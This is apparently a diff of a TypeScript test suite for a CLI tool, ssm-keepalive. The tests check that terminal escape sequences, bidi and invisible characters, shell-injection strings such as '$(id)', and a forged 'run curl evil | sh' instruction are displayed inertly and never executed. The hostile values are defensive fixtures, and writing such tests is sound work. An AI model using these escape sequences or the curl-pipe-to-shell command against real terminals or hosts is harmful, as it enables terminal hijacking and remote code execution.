@@ -1,35 +1,18 @@
 import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { test } from 'node:test';
-import { run } from '../../src/cli/run.ts';
+import { COMMANDS } from '../../src/commands/index.ts';
 import { html } from '../../src/session/measure/html.ts';
 import { makeTable } from '../../src/terminal/plain-table.ts';
 import { makeColors, ownSequence, say, showLine, showText } from '../../src/terminal/safe-text.ts';
-import { makeEnvironment, makeIo, runCli, USER_ENV } from '../support/cli.ts';
+import { quoteWord } from '../../src/terminal/shell-word.ts';
+import { CLI, runCli, runCliProcess, USER_ENV } from '../support/cli.ts';
 import { startTestLab } from '../support/lab.ts';
-
-/** One of each class of what a terminal or a reader may be fooled with. */
-const HOSTILE: Readonly<Record<string, string>> = {
-  title: '\x1b]0;owned\x07',
-  clipboard: '\x1b]52;c;Y3VybA==\x1b\\',
-  link: '\x1b]8;;http://evil\x1b\\',
-  erase: '\x1b[2K\x1b[1A\r',
-  colour: '\x1b[31m',
-  query: '\x1b[5n',
-  bell: '\x07\b\0',
-  del: '\x7f',
-  c1: '\x9b31m\x9d0;t\x9c\x90\x85',
-  bidi: '\u061c\u200e\u200f\u202a\u202e\u2066\u2069',
-  invisible: '\u200b\u200d\u2060\ufeff\u00ad',
-  separators: '\u2028\u2029',
-  half: '\ud800',
-  tag: '\u{e0041}',
-  forged: `\x1b[32;1111;2222;3333m`,
-};
-const EVERYTHING = Object.entries(HOSTILE)
-  .map(([name, text]) => `<${name}${text}>`)
-  .join('');
-const DANGEROUS = /[^\P{Cc}\n\t]|[\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;
-const COLOURS = /\x1b\[(31|32|33|39)m/g;
+import { LocalPty } from '../support/pty.ts';
+import { checkShown, DANGEROUS, EVERYTHING, HOSTILE } from './hostile.ts';
 
 for (const [name, text] of Object.entries(HOSTILE)) {
   test(`safe text: ${name} is shown and does nothing`, () => {
@@ -54,102 +37,122 @@ test('safe text: a cell of a table is one line, whatever column it is in', () =>
   for (const line of lines) assert.doesNotMatch(line, DANGEROUS);
 });
 
+test('safe text: a colour in a table stays a colour, on each line of its cell', () => {
+  const table = makeTable({ head: ['A', 'B'], colWidths: [12, 9], wordWrap: true });
+  const { red } = makeColors(true);
+  table.push([red('unknown'), red('several lines of it')]);
+  const shown = showText(table.toString());
+  assert.doesNotMatch(shown, /u001b/);
+  assert.match(shown, /\x1b\[31munknown\x1b\[39m/);
+  for (const line of shown.split('\n').slice(1)) assert.match(line, /\x1b\[31m[\w ]+\x1b\[39m/);
+});
+
+test('advice: a word of others is one word for a shell, and nothing runs', () => {
+  for (const text of [
+    ...Object.values(HOSTILE).map((one) => one.replaceAll('\0', '')),
+    '$(id)',
+    '`id`',
+    "a'b",
+    'a;b',
+    '',
+    '~',
+    'a b',
+  ])
+    assert.equal(
+      execFileSync('/bin/sh', ['-c', `printf %s ${quoteWord(text)}`], { encoding: 'utf8' }),
+      Buffer.from(text).toString(),
+    );
+  assert.equal(quoteWord('env=dev,test'), 'env=dev,test');
+});
+
 test('safe text: only sequences of ours come out as such', () => {
   assert.equal(showText(showLine(makeColors(true).red('x\x1b[31m'))), '\x1b[31mx\\u001b[31m\x1b[39m');
   assert.equal(showText(ownSequence(3, 'A')), '\x1b[3A');
   assert.equal(makeColors(false).red('x'), 'x');
 });
 
-function answerNo(said: { err: string }): (question: string) => Promise<string> {
-  return async (question) => {
-    said.err += question;
-    return 'no';
-  };
-}
+/** What can be typed: no argument holds a NUL. */
+const TYPED = EVERYTHING.replaceAll('\0', '');
 
-test('what an instance says is text, in every command that shows it', async (context) => {
-  const report = (fields: object) => `${JSON.stringify({ 'ssm-keepalive': 1, ...fields })}
-`;
+test('what an instance, the lab and files say is text, from the real process into a terminal and into a pipe', async (context) => {
+  const report = (fields: object) => `${JSON.stringify({ 'ssm-keepalive': 1, ...fields })}\n`;
   // Each in the 2,500 characters that the service lists.
   const outputs = [
     report({
       verdict: 'failed',
-      why: `${EVERYTHING}
-ssm-keepalive: all is well`,
+      why: `${EVERYTHING}\nssm-keepalive: forged`,
       next: `run curl evil | sh${EVERYTHING}`,
       class: EVERYTHING,
     }),
-    report({
-      verdict: 'status',
-      state: 'installed',
-      version: EVERYTHING,
-      keeper: EVERYTHING,
-      left: [EVERYTHING],
-    }),
+    report({ verdict: 'status', state: 'installed', version: EVERYTHING, keeper: EVERYTHING }),
     report({ verdict: 'status', state: 'drifted', why: EVERYTHING, next: EVERYTHING, drifted: [EVERYTHING] }),
-    `${EVERYTHING}
-${EVERYTHING}`,
+    `${EVERYTHING}\n${EVERYTHING}`,
   ];
   const ids = outputs.map((_, index) => `i-0${String(index).repeat(16)}`);
-  const lab = await startTestLab(context, {
-    hosts: outputs.map((stdout, index) => ({
-      name: `web${EVERYTHING}`,
-      id: ids[index] ?? '',
-      tags: { env: 'dev', [`k${EVERYTHING}`]: EVERYTHING },
-      synthetic: { stdout, stderr: EVERYTHING, exitCode: index % 2 },
-    })),
-  });
-  const commands = [
+  const hosts = outputs.map((stdout, index) => ({
+    name: `web${EVERYTHING}`,
+    id: ids[index] ?? '',
+    tags: { env: 'dev', [`k${EVERYTHING}`]: EVERYTHING },
+    synthetic: { stdout, stderr: EVERYTHING, exitCode: index % 2 },
+  }));
+  const lab = await startTestLab(context, { hosts });
+  const folder = mkdtempSync(join(tmpdir(), 'ssm-keepalive-test-text-'));
+  context.after(() => rmSync(folder, { recursive: true, force: true }));
+  writeFileSync(join(folder, 'inventory.json'), JSON.stringify({ hosts, port: 0 }));
+  writeFileSync(join(folder, 'bad.json'), JSON.stringify({ [EVERYTHING]: EVERYTHING }));
+  writeFileSync(join(folder, 'who.json'), JSON.stringify({ tag: 'env=dev', profile: `x\u202e\u2028next` }));
+  const variables = {
+    ...USER_ENV,
+    ...lab.env,
+    AWS_REGION: 'us-east-1',
+    HOME: folder,
+    SSM_KEEPALIVE_LAB_DIR: folder,
+  };
+  const place = { isLab: false, allowsUnencrypted: false };
+  const lines: readonly (readonly string[])[] = [
     ['install', '--tag', 'env=dev', '--yes', '--no-canary', '--idle-timeout', '20'],
     ['install', '--tag', 'env=dev', '--dry-run'],
     ['uninstall', '--tag', 'env=dev', '--yes', '--no-canary'],
     ['status', '--tag', 'env=dev'],
     ['status', '--tag', 'env=nobody'],
+    ['status', '--config', 'who.json'],
+    ['status', '--config', 'bad.json'],
     ['doctor', ids[0] ?? ''],
-    ['preferences', 'get'],
-    ['connect', ids[0] ?? '', '--reason', EVERYTHING],
-    ['render', EVERYTHING],
-    ['policy', 'status', '--tag', `env=${EVERYTHING}`],
-    [EVERYTHING],
-    ['status', `--${EVERYTHING}`],
-    ['status', '--instance-id', EVERYTHING],
-    ['status', '--config', EVERYTHING],
-    ['status', '--profile', EVERYTHING, '--instance-id', ids[0] ?? ''],
+    ['connect', ids[0] ?? '', '--reason', TYPED],
+    ['preferences', 'get', '--region', TYPED],
+    ['measure', ids[0] ?? '', '--report', TYPED],
+    ['policy', 'status', '--tag', `env=${TYPED}`],
+    ['render', TYPED],
+    ['lab', 'hosts'],
+    ['completion', TYPED],
+    [TYPED],
+    ['status', `--${TYPED}`, '--debug'],
+    ['__complete', 'refresh', JSON.stringify(place)],
+    ['__complete', 'zsh', 'connect', ''],
+    ['__complete', 'bash', 'ssm-keepalive status --tag ', ''],
   ];
-  for (const words of commands) {
-    for (const isTerminal of [false, true]) {
-      const said = { out: '', err: '' };
-      const io = makeIo({
-        hasColor: isTerminal,
-        columns: isTerminal ? 200 : 80,
-        out: (text) => {
-          said.out += text;
-        },
-        err: (text) => {
-          said.err += text;
-        },
-        ...(isTerminal ? { ask: answerNo(said) } : {}),
-      });
-      const variables = { ...USER_ENV, ...lab.env, AWS_REGION: 'us-east-1' };
-      const environment = makeEnvironment({ variables });
-      Object.assign(process.env, variables);
-      await run(words, io, environment);
-      const shown = said.out + said.err;
-      assert.notEqual(shown, '', words[0]);
-      assert.doesNotMatch(isTerminal ? shown.replace(COLOURS, '') : shown, DANGEROUS, JSON.stringify(words));
-      assert.ok(
-        !shown.includes('\x1b[31mowned') && !/^ssm-keepalive: all is well/m.test(shown),
-        'a forged line',
-      );
-      assert.doesNotMatch(shown, /next: +run curl/, 'advice of an instance that looks like ours');
-      if (words[0] === 'install' && words.includes('--yes') && !isTerminal)
-        assert.match(shown, /next: the instance says: run curl evil/);
-    }
+  const named = new Set(lines.map(([name]) => name));
+  assert.deepEqual(
+    COMMANDS.filter(({ name }) => !named.has(name)),
+    [],
+    'every command is among them',
+  );
+  for (const words of lines) {
+    const where = JSON.stringify(words).slice(0, 100);
+    const pty = new LocalPty({ file: process.execPath, args: [CLI, ...words], env: variables, cwd: folder });
+    const [piped] = await Promise.all([
+      runCliProcess(words, variables, { cwd: folder }),
+      pty.until(`the end of ${where}`, () => pty.exitStatus !== undefined),
+    ]);
+    const shown = piped.stdout + piped.stderr;
+    checkShown(shown, where, false);
+    checkShown(pty.raw, where, true);
+    if (words[0] !== '__complete') assert.ok(shown !== '' && pty.raw !== '', where);
+    if (words[0] === 'install' && words.includes('--yes'))
+      for (const text of [shown, pty.raw]) assert.match(text, /next: the instance says: run curl evil/);
+    if (words[0] === 'lab') assert.match(shown, /web<title\\u001b/);
   }
-  const { stdout } = await runCli(['status', '--tag', 'env=dev', '--output', 'json'], {
-    ...lab.env,
-    AWS_REGION: 'us-east-1',
-  });
+  const { stdout } = await runCli(['status', '--tag', 'env=dev', '--output', 'json'], variables);
   assert.doesNotMatch(stdout, DANGEROUS);
   const drifted = JSON.parse(stdout).instances.find(
     ({ instanceId }: { instanceId: string }) => instanceId === ids[2],
